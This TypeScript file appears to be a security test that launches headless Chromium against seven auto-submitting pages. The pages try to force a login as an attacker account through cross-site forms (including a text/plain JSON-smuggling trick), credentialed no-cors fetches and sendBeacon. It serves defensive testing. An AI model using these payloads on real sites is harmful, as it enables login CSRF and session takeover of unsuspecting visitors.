/** The same foreign page in a real browser, which sends its own headers. Where there is none: nothing. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { chromium } from 'playwright-core';
import { findChromium } from '../../tools/chromium.ts';
import { type Attack, PASSWORD, type Target, type Technician } from './target.ts';

const SENT_WITHIN_MS = 1_500;

/** Each signs the visitor in as the attacker, in a way that a page needs no permission for. */
function pages(target: Target, { email }: Technician): Record<string, string> {
  const login = `${target.url}/api/auth/login`;
  const json = JSON.stringify({ email, password: PASSWORD, more: '' });
  // A text form writes name=value: what stands before the last quote is the field's name.
  const [name, value] = [json.slice(0, -2), '"}'];
  const form = (action: string, enctype: string, fields: Record<string, string>) =>
    `<form method="post" action="${action}" enctype="${enctype}">${Object.entries(fields)
      .map(([key, text]) => `<input name='${key}' value='${text}'>`)
      .join('')}</form><script>document.forms[0].submit()</script>`;
  const inQuery = `${login}?${new URLSearchParams({ email, password: PASSWORD })}`;
  const send = (url: string, body: string) =>
    `<script>fetch(${JSON.stringify(url)}, ${JSON.stringify({ method: 'POST', mode: 'no-cors', credentials: 'include', body })})</script>`;
  return {
    'a form of plain text': form(login, 'text/plain', { [name]: value }),
    'a form with its input in the query': form(inQuery, 'text/plain', { a: 'b' }),
    'a form': form(login, 'application/x-www-form-urlencoded', { email, password: PASSWORD }),
    'a multipart form': form(login, 'multipart/form-data', { email, password: PASSWORD }),
    'fetch without leave': send(login, json),
    'fetch to tRPC without leave': send(
      `${target.url}/api/trpc/auth.login`,
      JSON.stringify({ json: { email, password: PASSWORD } }),
    ),
    'a beacon': `<script>navigator.sendBeacon(${JSON.stringify(inQuery)}, '')</script>`,
  };
}

async function visit(target: Target, executablePath: string): Promise<string[]> {
  const technician = await target.technician();
  const served = Object.entries(pages(target, technician));
  const evil = createServer((request, response) => {
    const [, page = ''] = served[Number(request.url?.slice(1))] ?? [];
    response.setHeader('content-type', 'text/html').end(page);
  }).listen(0, '127.0.0.1');
  await once(evil, 'listening');
  const { port } = evil.address() as { port: number };
  const browser = await chromium.launch({
    executablePath,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
  });
  const taken: string[] = [];
  try {
    for (const [at, [what]] of served.entries()) {
      const context = await browser.newContext();
      const page = await context.newPage();
      // Another host by name, and so another site.
      await page.goto(`http://localhost:${port}/${at}`);
      await sleep(SENT_WITHIN_MS / served.length + 200);
      const cookies = await context.cookies(target.url);
      if (cookies.length > 0) taken.push(what);
      await context.close();
    }
  } finally {
    await browser.close();
    evil.close();
  }
  return taken;
}

export const browserForms: Attack[] = [
  {
    name: 'a foreign page in a browser signs its visitor in as somebody else',
    item: 7,
    async run(target) {
      const executablePath = findChromium(process.env.CHROMIUM);
      if (!executablePath) return { worked: false, figure: 'no Chromium here to try it with' };
      const taken = await visit(target, executablePath);
      return { worked: taken.length > 0, figure: `taken: ${taken.join(', ') || 'none of seven'}` };
    },
  },
];
